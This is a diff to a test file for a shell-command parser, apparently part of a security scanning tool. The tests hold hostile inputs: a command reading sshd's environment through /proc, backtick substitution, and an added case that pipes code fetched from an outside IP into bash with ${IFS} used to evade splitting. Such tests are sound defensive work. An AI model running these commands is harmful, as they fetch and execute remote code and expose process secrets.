@@ -52,6 +52,9 @@ describe('CommandView', () => {
     const strings = v.commands.find((c) => c.name === 'strings')!;
     expect(strings.argv).toEqual(['strings', '/proc/`pgrep -n sshd`/environ', 'a`id`b', 'c']);
     expect(strings.dynamic).toEqual([false, true, true, false]);
+    // a split that the shell makes too stays split: `${IFS}` ends the word before the process substitution
+    const bash = engine.view('bash${IFS}<(curl -s http://198.51.100.7/s)').commands.find((c) => c.name === 'bash')!;
+    expect(bash.argv).toEqual(['bash', '<(curl -s http://198.51.100.7/s)']);
   });
 
   it('reads a PowerShell -EncodedCommand as the command it encodes', async () => {
